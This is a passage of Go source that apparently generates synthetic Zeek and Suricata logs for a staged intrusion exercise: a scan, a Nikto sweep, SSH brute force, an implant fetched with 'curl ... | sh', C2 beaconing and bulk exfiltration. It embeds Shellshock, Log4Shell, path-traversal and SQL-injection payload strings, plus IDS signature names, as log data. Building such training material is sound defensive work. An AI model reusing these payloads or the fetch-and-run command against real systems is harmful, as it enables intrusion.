package main

import (
	"sort"
	"strings"
	"time"
)

// The sensor (sensor-1) receives a VPC traffic mirror of web-1 and
// bastion-1 and runs Zeek (TSV logs, rotated hourly and gzipped) and
// Suricata (eve.json).

var zeekFields = map[string][2]string{
	"conn": {"ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents",
		"time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]"},
	"dns": {"ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected",
		"time string addr port addr port enum count interval string count string count string count string bool bool bool bool count vector[string] vector[interval] bool"},
	"http": {"ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent origin request_body_len response_body_len status_code status_msg info_code info_msg tags username password proxied orig_fuids orig_filenames orig_mime_types resp_fuids resp_filenames resp_mime_types",
		"time string addr port addr port count string string string string string string string count count count string count string set[enum] string string set[string] vector[string] vector[string] vector[string] vector[string] vector[string] vector[string]"},
	"ssl": {"ts uid id.orig_h id.orig_p id.resp_h id.resp_p version cipher curve server_name resumed last_alert next_protocol established ssl_history cert_chain_fps client_cert_chain_fps sni_matches_cert validation_status",
		"time string addr port addr port string string string string bool string string bool string vector[string] vector[string] bool string"},
	"ssh": {"ts uid id.orig_h id.orig_p id.resp_h id.resp_p version auth_success auth_attempts direction client server cipher_alg mac_alg compression_alg kex_alg host_key_alg host_key",
		"time string addr port addr port count bool count enum string string string string string string string string"},
	"files": {"ts fuid uid id.orig_h id.orig_p id.resp_h id.resp_p source depth analyzers mime_type filename duration local_orig is_orig seen_bytes total_bytes missing_bytes overflow_bytes timedout parent_fuid md5 sha1 sha256 extracted extracted_cutoff extracted_size",
		"time string string addr port addr port string count set[string] string string interval bool bool count count count count bool string string string string string bool count"},
	"notice": {"ts uid id.orig_h id.orig_p id.resp_h id.resp_p fuid file_mime_type file_desc proto note msg sub src dst p n peer_descr actions email_dest suppress_for remote_location.country_code remote_location.region remote_location.city remote_location.latitude remote_location.longitude",
		"time string addr port addr port string string string enum enum string string addr addr port count string set[enum] set[string] interval string string string double double"},
	"software": {"ts host host_p software_type name version.major version.minor version.minor2 version.minor3 version.addl unparsed_version",
		"time addr port enum string count count count count string string"},
}

// zrec adds a Zeek record; written is when Zeek wrote it (a connection is
// logged when it ends), which decides its hourly file.
func (s *story) zrec(path string, ts, written time.Time, fields ...any) {
	names := strings.Fields(zeekFields[path][0])
	if len(fields) != len(names) {
		panic(sprintf("zeek %s: %d values for %d fields", path, len(fields), len(names)))
	}
	vals := make([]string, len(fields))
	for i, f := range fields {
		switch v := f.(type) {
		case time.Time:
			vals[i] = sprintf("%d.%06d", v.Unix(), v.Nanosecond()/1000)
		case time.Duration:
			vals[i] = sprintf("%.6f", v.Seconds())
		case bool:
			vals[i] = map[bool]string{true: "T", false: "F"}[v]
		case int:
			vals[i] = sprintf("%d", v)
		case int64:
			vals[i] = sprintf("%d", v)
		case float64:
			vals[i] = sprintf("%.6f", v)
		case string:
			if v == "" {
				vals[i] = "-"
			} else {
				vals[i] = v
			}
		case []string:
			if len(v) == 0 {
				vals[i] = "(empty)"
			} else {
				vals[i] = strings.Join(v, ",")
			}
		case nil:
			vals[i] = "-"
		default:
			panic(sprintf("zeek value %T", f))
		}
	}
	s.zeek[path] = append(s.zeek[path], rec{t: written, line: strings.Join(vals, "\t")})
}

func (s *story) uid() string  { return "C" + s.chars(alnum, 17) }
func (s *story) fuid() string { return "F" + s.chars(alnum, 17) }

// conn logs one connection seen by the sensor.
func (s *story) conn(t time.Time, uid, src string, sport int, dst string, dport int, proto, service string, dur time.Duration, ob, rb int64, state, history string) {
	local := func(ip string) bool { return strings.HasPrefix(ip, "10.") }
	op, rp := 1+int(ob/1200), 1+int(rb/1200)
	if state == "S0" || state == "REJ" {
		s.zrec("conn", t, t.Add(dur+5*time.Second), t, uid, src, sport, dst, dport, proto, service, nil, nil, nil, state,
			local(src), local(dst), 0, history, 1, 44+int64(0), map[bool]int{true: 1, false: 0}[state == "REJ"], map[bool]int64{true: 40, false: 0}[state == "REJ"], nil)
		return
	}
	s.zrec("conn", t, t.Add(dur+5*time.Second), t, uid, src, sport, dst, dport, proto, service, dur, ob, rb, state,
		local(src), local(dst), 0, history, op, ob+int64(op)*52, rp, rb+int64(rp)*52, nil)
}

// dns logs a query and its answer.
func (s *story) dnsQuery(t time.Time, src, name, qtype string, answers []string, ttl int) {
	uid := s.uid()
	sport := s.port()
	id := s.intn(65535)
	ttls := make([]string, len(answers))
	for i := range ttls {
		ttls[i] = sprintf("%d.000000", ttl)
	}
	qt := map[string]int{"A": 1, "AAAA": 28, "TXT": 16, "CNAME": 5, "PTR": 12}[qtype]
	rcode, rname := 0, "NOERROR"
	if len(answers) == 0 {
		rcode, rname = 3, "NXDOMAIN"
	}
	rtt := time.Duration(300+s.intn(30000)) * time.Microsecond
	s.zrec("dns", t, t.Add(rtt), t, uid, src, sport, resolverIP, 53, "udp", id, rtt, name, 1, "C_INTERNET", qt, qtype, rcode, rname,
		false, false, true, true, 0, answers, ttls, false)
	s.conn(t, uid, src, sport, resolverIP, 53, "udp", "dns", rtt, int64(30+len(name)), int64(60+len(name)+16*len(answers)), "SF", "Dd")
	s.eveDNS(t, src, sport, name, qtype, answers, ttl, rcode == 3)
}

const (
	opensshServer = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3"
	hydraClient   = "SSH-2.0-libssh_0.10.6"
	nmapUA        = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
	aptUA         = "Debian APT-HTTP/1.3 (2.6.1)"
	niktoUA       = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%s)"
	shellshockUA  = "() { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;"
	curlUA        = "curl/7.88.1"
	log4shellUA   = "${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ=}"
)

var webNames = []string{"www.fernhill.io", "app.fernhill.io"}

func (s *story) tellNetwork() {
	// Visitors of web-1 over HTTPS.
	s.every(dayStart, dayEnd, 20*time.Second, func(t time.Time) {
		ip := s.internet()
		sp := s.port()
		uid := s.uid()
		dur := time.Duration(2+s.intn(40))*time.Second + time.Duration(s.intn(999999))*time.Microsecond
		sni := webNames[s.intn(2)]
		s.conn(t, uid, ip, sp, web.ip, 443, "tcp", "ssl", dur, int64(900+s.intn(4000)), int64(4000+s.intn(90000)), "SF", "ShADadFf")
		s.zrec("ssl", t, t.Add(200*time.Millisecond), t, uid, ip, sp, web.ip, 443, "TLSv13", "TLS_AES_128_GCM_SHA256", "x25519", sni, false, nil, "h2", true, "CsiI",
			[]string{"b7d4a3c05e2f18969d3c1a7e5b0f2d4c6a8e1b3d5f7092c4e6a8b0d2f4e6a8c0"}, []string{}, true, "ok")
		s.eveTLS(t, ip, sp, web.ip, 443, sni, "CN="+sni, "C=US, O=Let's Encrypt, CN=R11", "TLS 1.3", false)
	})
	// web-1 and its database (plain TCP as far as Zeek knows), its
	// lookups and its payment provider.
	s.every(dayStart, dayEnd, time.Minute, func(t time.Time) {
		s.conn(t, s.uid(), web.ip, s.port(), dbIP, 5432, "tcp", "", 60*time.Second, int64(8000+s.intn(60000)), int64(20000+s.intn(200000)), "SF", "ShADadfF")
	})
	awsNames := map[string]string{
		"ssm." + region + ".amazonaws.com":            "192.0.2.241",
		"ec2messages." + region + ".amazonaws.com":    "192.0.2.242",
		"secretsmanager." + region + ".amazonaws.com": "192.0.2.243",
		"api.stripe.com":            "192.0.2.244",
		"deb.debian.org":            "192.0.2.245",
		"security.debian.org":       "192.0.2.246",
		"o4508.ingest.de.sentry.io": "192.0.2.247",
	}
	names := make([]string, 0, len(awsNames))
	for n := range awsNames {
		names = append(names, n)
	}
	sort.Strings(names)
	s.every(dayStart, dayEnd, 90*time.Second, func(t time.Time) {
		h := web
		if s.chance(0.4) {
			h = bastion
		}
		n := names[s.intn(len(names))]
		s.dnsQuery(t, h.ip, n, "A", []string{awsNames[n]}, 60)
		if strings.HasPrefix(n, "deb.") || strings.HasPrefix(n, "security.") {
			// apt over plain HTTP.
			uid := s.uid()
			sp := s.port()
			u := t.Add(30 * time.Millisecond)
			path := s.pick("/debian/dists/bookworm-updates/InRelease", "/debian-security/dists/bookworm-security/InRelease")
			s.conn(u, uid, h.ip, sp, awsNames[n], 80, "tcp", "http", 400*time.Millisecond, 310, 7400, "SF", "ShADadfF")
			s.zrec("http", u, u.Add(time.Second), u, uid, h.ip, sp, awsNames[n], 80, 1, "GET", n, path, nil, "1.1", aptUA, nil, 0, 7082, 304, "Not Modified",
				nil, nil, []string{}, nil, nil, nil, nil, nil, nil, nil, nil, nil)
			s.eveHTTP(u, h.ip, sp, awsNames[n], 80, n, path, aptUA, "GET", 304, 0)
			return
		}
		uid := s.uid()
		sp := s.port()
		u := t.Add(20 * time.Millisecond)
		s.conn(u, uid, h.ip, sp, awsNames[n], 443, "tcp", "ssl", time.Duration(1+s.intn(20))*time.Second, int64(1800+s.intn(3000)), int64(5000+s.intn(9000)), "SF", "ShADadFf")
		s.zrec("ssl", u, u.Add(time.Second), u, uid, h.ip, sp, awsNames[n], 443, "TLSv13", "TLS_AES_256_GCM_SHA384", "x25519", n, false, nil, "http/1.1", true, "CsiI",
			[]string{"4e1f0a2b3c" + s.hex(54)}, []string{}, true, "ok")
		s.eveTLS(u, h.ip, sp, awsNames[n], 443, n, "CN="+n, "C=US, O=Amazon, CN=Amazon RSA 2048 M02", "TLS 1.3", true)
	})
	// Employees on the VPN use the bastion.
	for _, v := range []struct {
		ip   string
		from time.Time
		to   time.Time
	}{{"10.8.0.14", at(8, 21, 3), at(8, 58, 10)}, {"10.8.0.52", at(9, 2, 40), at(9, 40, 2)}, {"10.8.0.101", at(13, 12, 9), at(13, 55, 30)}} {
		uid := s.uid()
		sp := s.port()
		s.conn(v.from, uid, v.ip, sp, bastion.ip, 22, "tcp", "ssh", v.to.Sub(v.from), 48000, 310000, "SF", "ShAdDaFf")
		s.zrec("ssh", v.from, v.from.Add(2*time.Second), v.from, uid, v.ip, sp, bastion.ip, 22, 2, true, 1, "INBOUND", "SSH-2.0-OpenSSH_9.8", opensshServer,
			"chacha20-poly1305@openssh.com", "umac-64-etm@openssh.com", "none", "sntrup761x25519-sha512@openssh.com", "ssh-ed25519", "4f:2a:91:0c:7e:55:b3:18:d2:6a:0e:9c:31:f7:4b:a2")
		s.eveSSH(v.from, v.ip, sp, bastion.ip, "OpenSSH_9.8")
	}
	// Background: the internet's scanners hit port 80 of web-1 now and
	// then, and Suricata flags known-bad sources.
	s.every(dayStart, dayEnd, 9*time.Minute, func(t time.Time) {
		ip := s.internet()
		sp := s.port()
		uid := s.uid()
		path := s.pick("/", "/robots.txt", "/wp-login.php", "/.well-known/security.txt", "/favicon.ico")
		s.conn(t, uid, ip, sp, web.ip, 80, "tcp", "http", 300*time.Millisecond, 180, 520, "SF", "ShADadfF")
		s.zrec("http", t, t.Add(time.Second), t, uid, ip, sp, web.ip, 80, 1, "GET", webEIP, path, nil, "1.1", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", nil,
			0, 162, 301, "Moved Permanently", nil, nil, []string{}, nil, nil, nil, nil, nil, nil, nil, nil, nil)
	})
	bad := []struct {
		sid       int
		sig, cat  string
		port, sev int
	}{
		{2403331, "ET CINS Active Threat Intelligence Poor Reputation IP group 32", "Misc Attack", 3306, 2},
		{2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 1433, 2},
		{2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 22, 2},
		{2402000, "ET DROP Dshield Block Listed Source", "Misc Attack", 445, 2},
	}
	s.every(dayStart, dayEnd, 23*time.Minute, func(t time.Time) {
		b := bad[s.intn(len(bad))]
		h := web
		if s.chance(0.5) {
			h = bastion
		}
		s.eveAlert(t, s.internet(), s.port(), h.ip, b.port, b.sid, b.sig, b.cat, b.sev, nil)
	})
	s.every(dayStart, dayEnd, time.Hour, func(t time.Time) { s.eveStats(t) })

	s.networkIntrusion()
}

func (s *story) networkIntrusion() {
	// 09:04 port scan.
	t := at(9, 4, 11)
	ports := []int{21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1025, 1433, 1521, 1723, 2049,
		2375, 3000, 3306, 3389, 5000, 5432, 5601, 5900, 5985, 6379, 6443, 8000, 8008, 8080, 8081, 8443, 8888, 9000, 9090, 9200, 9300, 10250, 11211, 27017}
	for _, h := range []host{web, bastion} {
		for _, p := range ports {
			t = t.Add(time.Duration(200+s.intn(1500)) * time.Millisecond)
			open := (h.name == web.name && (p == 80 || p == 443)) || (h.name == bastion.name && p == 22)
			if open {
				s.conn(t, s.uid(), attackerIP, 40000+s.intn(20000), h.ip, p, "tcp", "", 100*time.Millisecond, 0, 0, "RSTO", "ShR")
			} else {
				s.conn(t, s.uid(), attackerIP, 40000+s.intn(20000), h.ip, p, "tcp", "", 0, 0, 0, "S0", "S")
			}
		}
	}
	s.zrec("notice", at(9, 4, 44), at(9, 4, 44), at(9, 4, 44), nil, nil, nil, nil, nil, nil, nil, nil, nil, "Scan::Port_Scan",
		attackerIP+" scanned at least 15 unique ports of host "+web.ip+" in 0m33s", "remote", attackerIP, web.ip, nil, nil, "zeek",
		[]string{"Notice::ACTION_LOG"}, []string{}, 3600.0, "NL", nil, "Amsterdam", 52.374, 4.8897)
	for i, a := range []struct {
		sid      int
		sig, cat string
		port     int
	}{
		{2010937, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 3306},
		{2010939, "ET SCAN Suspicious inbound to PostgreSQL port 5432", "Potentially Bad Traffic", 5432},
		{2002911, "ET SCAN Potential VNC Scan 5900-5920", "Attempted Information Leak", 5900},
		{2010936, "ET SCAN Suspicious inbound to Oracle SQL port 1521", "Potentially Bad Traffic", 1521},
	} {
		s.eveAlert(at(9, 4, 20).Add(time.Duration(i*6)*time.Second), attackerIP, 40000+s.intn(20000), web.ip, a.port, a.sid, a.sig, a.cat, 2, nil)
	}

	// 09:12 Nikto, port 80 (redirected) as the sensor sees it; its HTTPS
	// half is only in nginx's log.
	t = at(9, 12, 3)
	probes := []struct {
		uri, ua string
		sid     int
		sig     string
		cat     string
		sev     int
	}{
		{"/", "", 0, "", "", 0},
		{"/cgi-bin/test.cgi", shellshockUA, 2022028, "ET WEB_SERVER Possible CVE-2014-6271 Attempt in HTTP Headers", "Attempted Administrator Privilege Gain", 1},
		{"/cgi-bin/status", shellshockUA, 2022028, "ET WEB_SERVER Possible CVE-2014-6271 Attempt in HTTP Headers", "Attempted Administrator Privilege Gain", 1},
		{"/../../../../../../etc/passwd", "", 2049001, "ET WEB_SERVER /etc/passwd Detected in URI", "Attempted Information Leak", 2},
		{"/index.php?page=../../../../etc/passwd", "", 2049001, "ET WEB_SERVER /etc/passwd Detected in URI", "Attempted Information Leak", 2},
		{"/products.php?id=1%20UNION%20SELECT%20NULL,NULL,version()--", "", 2006446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1},
		{"/login.php?user=admin'%20OR%20'1'='1", "", 2010963, "ET WEB_SERVER SELECT USER SQL Injection Attempt in URI", "Web Application Attack", 1},
		{"/", log4shellUA, 2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1},
		{"/phpmyadmin/", "", 0, "", "", 0},
		{"/.git/config", "", 0, "", "", 0},
		{"/.env", "", 0, "", "", 0},
		{"/admin/", "", 0, "", "", 0},
		{"/wp-login.php", "", 0, "", "", 0},
		{"/server-status", "", 0, "", "", 0},
		{"/backup.zip", "", 0, "", "", 0},
		{"/config.php.bak", "", 0, "", "", 0},
	}
	for round := 0; round < 3; round++ {
		for i, p := range probes {
			t = t.Add(time.Duration(300+s.intn(2000)) * time.Millisecond)
			ua := p.ua
			if ua == "" {
				ua = sprintf(niktoUA, sprintf("%06d", 1000+round*100+i))
			}
			uid := s.uid()
			sp := s.port()
			s.conn(t, uid, attackerIP, sp, web.ip, 80, "tcp", "http", 150*time.Millisecond, int64(200+len(p.uri)), 330, "SF", "ShADadfF")
			s.zrec("http", t, t.Add(time.Second), t, uid, attackerIP, sp, web.ip, 80, 1, "GET", webEIP, p.uri, nil, "1.1", ua, nil, 0, 162, 301, "Moved Permanently",
				nil, nil, []string{}, nil, nil, nil, nil, nil, nil, nil, nil, nil)
			s.eveHTTP(t, attackerIP, sp, web.ip, 80, webEIP, p.uri, ua, "GET", 301, 162)
			if p.sid != 0 {
				s.eveAlert(t.Add(2*time.Millisecond), attackerIP, sp, web.ip, 80, p.sid, p.sig, p.cat, p.sev,
					o("hostname", webEIP, "url", p.uri, "http_user_agent", ua, "http_method", "GET", "protocol", "HTTP/1.1", "status", 301, "length", 162))
			}
			if i%5 == 0 {
				s.eveAlert(t.Add(3*time.Millisecond), attackerIP, sp, web.ip, 80, 2002677, "ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", 2,
					o("hostname", webEIP, "url", p.uri, "http_user_agent", ua, "http_method", "GET", "protocol", "HTTP/1.1", "status", 301, "length", 162))
			}
		}
	}

	// 10:10 SSH password guessing (hydra's libssh client), then the
	// login with the found password.
	n := 0
	for t := at(10, 10, 2); t.Before(at(10, 21, 0)); t = t.Add(20 * time.Second) {
		uid := s.uid()
		sp := s.port()
		s.conn(t, uid, attackerIP, sp, bastion.ip, 22, "tcp", "ssh", 6*time.Second, 2100, 2900, "SF", "ShAdDaFf")
		s.zrec("ssh", t, t.Add(6*time.Second), t, uid, attackerIP, sp, bastion.ip, 22, 2, false, 3, "INBOUND", hydraClient, opensshServer,
			"aes256-ctr", "hmac-sha2-256", "none", "curve25519-sha256", "ssh-ed25519", "c1:7e:33:0a:5d:92:e4:6b:18:af:20:c7:9e:41:b8:6d")
		if n%6 == 0 {
			s.eveAlert(t.Add(time.Second), attackerIP, sp, bastion.ip, 22, 2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, nil)
		}
		if n%4 == 0 {
			s.eveSSH(t, attackerIP, sp, bastion.ip, "libssh_0.10.6")
		}
		n++
	}
	s.zrec("notice", at(10, 20, 5), at(10, 20, 5), at(10, 20, 5), nil, nil, nil, nil, nil, nil, nil, nil, nil, "SSH::Password_Guessing",
		attackerIP+" appears to be guessing SSH passwords (seen in 30 connections).", "Sampled servers:  "+bastion.ip, attackerIP, nil, nil, 30, "zeek",
		[]string{"Notice::ACTION_LOG"}, []string{}, 3600.0, "NL", nil, "Amsterdam", 52.374, 4.8897)
	uid := s.uid()
	login := at(10, 21, 4)
	s.conn(login, uid, attackerIP, 51622, bastion.ip, 22, "tcp", "ssh", at(11, 51, 40).Sub(login), 190000, 2400000, "SF", "ShAdDaFf")
	s.zrec("ssh", login, login.Add(3*time.Second), login, uid, attackerIP, 51622, bastion.ip, 22, 2, true, 1, "INBOUND", "SSH-2.0-OpenSSH_9.7p1 Debian-5", opensshServer,
		"chacha20-poly1305@openssh.com", "umac-64-etm@openssh.com", "none", "sntrup761x25519-sha512@openssh.com", "ssh-ed25519", "c1:7e:33:0a:5d:92:e4:6b:18:af:20:c7:9e:41:b8:6d")
	s.eveSSH(login, attackerIP, 51622, bastion.ip, "OpenSSH_9.7p1 Debian-5")

	// 10:24 curl http://203.0.113.200/k.sh | sh, which fetches the
	// implant.
	for i, d := range []struct {
		uri, mime, name, md5, sha1, sha256 string
		size                               int
	}{
		{"/k.sh", "text/x-shellscript", "k.sh", "5d41402abc4b2a76b9719d911017c592", "aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d", "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824", 812},
		{"/kworkerd", "application/x-executable", "kworkerd", "7d793037a0760186574b0282f2f435e7", "c3499c2729730a7f807efb8676a92dcb6f8a3f8f", "50d858e0985ecc7f60418aaf0cc5ab587f42c2570a884095a9e8ccacd0f6545c", 548864},
	} {
		tt := at(10, 24, 37).Add(time.Duration(i*15) * time.Second)
		uid := s.uid()
		fuid := s.fuid()
		sp := 48812 + i*14
		s.conn(tt, uid, bastion.ip, sp, c2IP, 80, "tcp", "http", time.Duration(1+i*2)*time.Second, 96, int64(d.size+310), "SF", "ShADadfF")
		s.zrec("http", tt, tt.Add(3*time.Second), tt, uid, bastion.ip, sp, c2IP, 80, 1, "GET", c2IP, d.uri, nil, "1.1", curlUA, nil, 0, d.size, 200, "OK",
			nil, nil, []string{}, nil, nil, nil, nil, nil, nil, []string{fuid}, nil, []string{d.mime})
		s.zrec("files", tt, tt.Add(3*time.Second), tt, fuid, uid, bastion.ip, sp, c2IP, 80, "HTTP", 0, []string{"MD5", "SHA1", "SHA256"}, d.mime, d.name,
			time.Duration(i*2)*time.Second, false, false, d.size, d.size, 0, 0, false, nil, d.md5, d.sha1, d.sha256, nil, nil, nil)
		s.eveHTTP(tt, bastion.ip, sp, c2IP, 80, c2IP, d.uri, curlUA, "GET", 200, d.size)
		s.eveFile(tt.Add(time.Second), bastion.ip, sp, c2IP, d.uri, d.name, d.mime, d.md5, d.sha1, d.sha256, d.size)
		if i == 0 {
			s.eveAlert(tt.Add(10*time.Millisecond), c2IP, 80, bastion.ip, sp, 2033966, "ET MALWARE Possible Linux Dropper Shell Script Download", "A Network Trojan was detected", 1,
				o("hostname", c2IP, "url", d.uri, "http_user_agent", curlUA, "http_method", "GET", "protocol", "HTTP/1.1", "status", 200, "length", d.size))
		} else {
			s.eveAlert(tt.Add(10*time.Millisecond), c2IP, 80, bastion.ip, sp, 2014819, "ET INFO Packed Executable Download", "Misc activity", 3,
				o("hostname", c2IP, "url", d.uri, "http_user_agent", curlUA, "http_method", "GET", "protocol", "HTTP/1.1", "status", 200, "length", d.size))
		}
	}
	// The implant beacons every minute over TLS with a self-signed
	// certificate, looking its server up first.
	k := 0
	for t := at(10, 26, 3); t.Before(at(12, 47, 31)); t = t.Add(time.Minute) {
		s.dnsQuery(t, bastion.ip, c2Name, "A", []string{c2IP}, 60)
		uid := s.uid()
		sp := s.port()
		u := t.Add(40 * time.Millisecond)
		s.conn(u, uid, bastion.ip, sp, c2IP, 443, "tcp", "ssl", 800*time.Millisecond, 517, 803, "SF", "ShADadFf")
		s.zrec("ssl", u, u.Add(time.Second), u, uid, bastion.ip, sp, c2IP, 443, "TLSv12", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", "x25519", c2Name, false, nil, nil, true, "CsxknGIi",
			[]string{"9a0c2e4f6b8d1a3c5e7f9b2d4f6a8c0e2b4d6f8a1c3e5a7c9e1b3d5f7a9c1e3b"}, []string{}, false, "self signed certificate")
		if k%10 == 0 {
			s.eveTLS(u, bastion.ip, sp, c2IP, 443, c2Name, "CN=localhost", "CN=localhost", "TLS 1.2", true)
		}
		if k == 0 {
			s.eveAlert(t.Add(5*time.Millisecond), bastion.ip, s.port(), resolverIP, 53, 2028675, "ET INFO DYNAMIC_DNS Query to a *.duckdns .org Domain", "Potentially Bad Traffic", 2, nil)
		}
		k++
	}
	// 10:31 nmap from the bastion: the HTTP scripts' user agent, refused
	// connections, and Zeek's address scan notice.
	t = at(10, 31, 8)
	for i := 0; i < 46; i++ {
		t = t.Add(time.Duration(100+s.intn(700)) * time.Millisecond)
		dst := sprintf("10.0.%d.%d", 1+s.intn(2), 2+s.intn(60))
		s.conn(t, s.uid(), bastion.ip, s.port(), dst, ports[s.intn(len(ports))], "tcp", "", 0, 0, 0, "REJ", "Sr")
	}
	for i, p := range []string{"/", "/robots.txt", "/.git/HEAD", "/nmaplowercheck1731234567", "/HNAP1", "/evox/about", "/sdk"} {
		tt := at(10, 32, 1).Add(time.Duration(i*400) * time.Millisecond)
		uid := s.uid()
		sp := s.port()
		s.conn(tt, uid, bastion.ip, sp, web.ip, 80, "tcp", "http", 50*time.Millisecond, 180, 320, "SF", "ShADadfF")
		s.zrec("http", tt, tt.Add(time.Second), tt, uid, bastion.ip, sp, web.ip, 80, 1, "GET", web.ip, p, nil, "1.1", nmapUA, nil, 0, 162, 301, "Moved Permanently",
			nil, nil, []string{}, nil, nil, nil, nil, nil, nil, nil, nil, nil)
		s.eveHTTP(tt, bastion.ip, sp, web.ip, 80, web.ip, p, nmapUA, "GET", 301, 162)
		if i == 0 {
			s.eveAlert(tt.Add(time.Millisecond), bastion.ip, sp, web.ip, 80, 2009358, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1,
				o("hostname", web.ip, "url", p, "http_user_agent", nmapUA, "http_method", "GET", "protocol", "HTTP/1.1", "status", 301, "length", 162))
		}
	}
	s.zrec("software", at(10, 32, 1), at(10, 32, 2), at(10, 32, 1), bastion.ip, nil, "HTTP::BROWSER", "Nmap Scripting Engine", nil, nil, nil, nil, nil, nmapUA)
	s.zrec("notice", at(10, 31, 40), at(10, 31, 40), at(10, 31, 40), nil, nil, nil, nil, nil, nil, nil, nil, nil, "Scan::Address_Scan",
		bastion.ip+" scanned at least 25 unique hosts on ports 22/tcp, 80/tcp, 443/tcp, 5432/tcp in 0m28s", "local", bastion.ip, nil, nil, nil, "zeek",
		[]string{"Notice::ACTION_LOG"}, []string{}, 3600.0, nil, nil, nil, nil, nil)

	// 11:40-12:10 the dump leaves on one long TLS connection, logged when
	// it ends.
	start := at(11, 40, 2)
	end := at(12, 9, 51)
	uid = s.uid()
	s.zrec("conn", start, end.Add(5*time.Second), start, uid, bastion.ip, 49410, c2IP, 443, "tcp", "ssl", end.Sub(start), int64(3543348018), int64(4182011), "SF",
		true, false, 0, "ShADadFf", 2530963, int64(3543348018)+2530963*52, 98210, int64(4182011)+98210*52, nil)
	s.zrec("ssl", start, start.Add(time.Second), start, uid, bastion.ip, 49410, c2IP, 443, "TLSv12", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", "x25519", c2Name, false, nil, nil, true, "CsxknGIi",
		[]string{"9a0c2e4f6b8d1a3c5e7f9b2d4f6a8c0e2b4d6f8a1c3e5a7c9e1b3d5f7a9c1e3b"}, []string{}, false, "self signed certificate")
	s.eveFlow(end.Add(30*time.Second), bastion.ip, 49410, c2IP, 443, "tls", 2530963, 98210, int64(3543348018), int64(4182011), start, end)
}

func (s *story) zeekFiles() []file {
	var out []file
	paths := make([]string, 0, len(s.zeek))
	for p := range s.zeek {
		paths = append(paths, p)
	}
	sort.Strings(paths)
	for _, p := range paths {
		rs := s.zeek[p]
		sortRecs(rs)
		byHour := map[int][]string{}
		for _, r := range rs {
			byHour[r.t.Hour()] = append(byHour[r.t.Hour()], r.line)
		}
		for h := 8; h <= 14; h++ {
			lines := byHour[h]
			if len(lines) == 0 {
				continue
			}
			open := at(h, 0, 0)
			head := "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t" + p + "\n#open\t" + open.Format("2006-01-02-15-04-05") + "\n" +
				"#fields\t" + strings.ReplaceAll(zeekFields[p][0], " ", "\t") + "\n#types\t" + strings.ReplaceAll(zeekFields[p][1], " ", "\t") + "\n"
			body := head + strings.Join(lines, "\n") + "\n#close\t" + open.Add(time.Hour).Format("2006-01-02-15-04-05") + "\n"
			name := sprintf("sensor-1/zeek/2026-11-10/%s.%02d:00:00-%02d:00:00.log.gz", p, h, h+1)
			out = append(out, file{name, gz, []byte(body)})
		}
	}
	return out
}

// Suricata EVE JSON.

func (s *story) eve(t time.Time, typ, src string, sport int, dst string, dport int, proto string, rest ...any) {
	e := o("timestamp", t.Format("2006-01-02T15:04:05.000000-0700"), "flow_id", 1000000000000000+s.r.Int64N(1000000000000000),
		"in_iface", "ens5", "event_type", typ, "src_ip", src)
	if sport != 0 {
		e = e.with("src_port", sport)
	}
	e = e.with("dest_ip", dst)
	if dport != 0 {
		e = e.with("dest_port", dport)
	}
	e = e.with("proto", proto)
	e = append(e, o(rest...)...)
	s.eveRecs = append(s.eveRecs, rec{t: t, j: e})
}

func (s *story) eveAlert(t time.Time, src string, sport int, dst string, dport, sid int, sig, cat string, sev int, http obj) {
	rest := []any{"pkt_src", "wire/pcap", "tx_id", 0,
		"alert", o("action", "allowed", "gid", 1, "signature_id", sid, "rev", 3+sid%7, "signature", sig, "category", cat, "severity", sev,
			"metadata", o("created_at", list("2015_01_01"), "updated_at", list("2024_06_01"))),
	}
	if http != nil {
		rest = append(rest, "http", http, "app_proto", "http")
	}
	rest = append(rest, "direction", "to_server", "flow", o("pkts_toserver", 3+s.intn(6), "pkts_toclient", s.intn(5), "bytes_toserver", 300+s.intn(900),
		"bytes_toclient", s.intn(1200), "start", t.Add(-200*time.Millisecond).Format("2006-01-02T15:04:05.000000-0700"), "src_ip", src, "dest_ip", dst,
		"src_port", sport, "dest_port", dport))
	s.eve(t, "alert", src, sport, dst, dport, "TCP", rest...)
}

func (s *story) eveDNS(t time.Time, src string, sport int, name, qtype string, answers []string, ttl int, nx bool) {
	if name != c2Name && !s.chance(0.3) {
		return // the sensor's DNS logging samples routine lookups
	}
	s.eve(t, "dns", src, sport, resolverIP, 53, "UDP", "dns", o("version", 3, "type", "request", "tx_id", 0, "id", 4000+s.intn(60000),
		"rd", true, "opcode", 0, "queries", list(o("rrname", name, "rrtype", qtype))))
	rc := "NOERROR"
	if nx {
		rc = "NXDOMAIN"
	}
	var ans []any
	for _, a := range answers {
		ans = append(ans, o("rrname", name, "rrtype", qtype, "ttl", ttl, "rdata", a))
	}
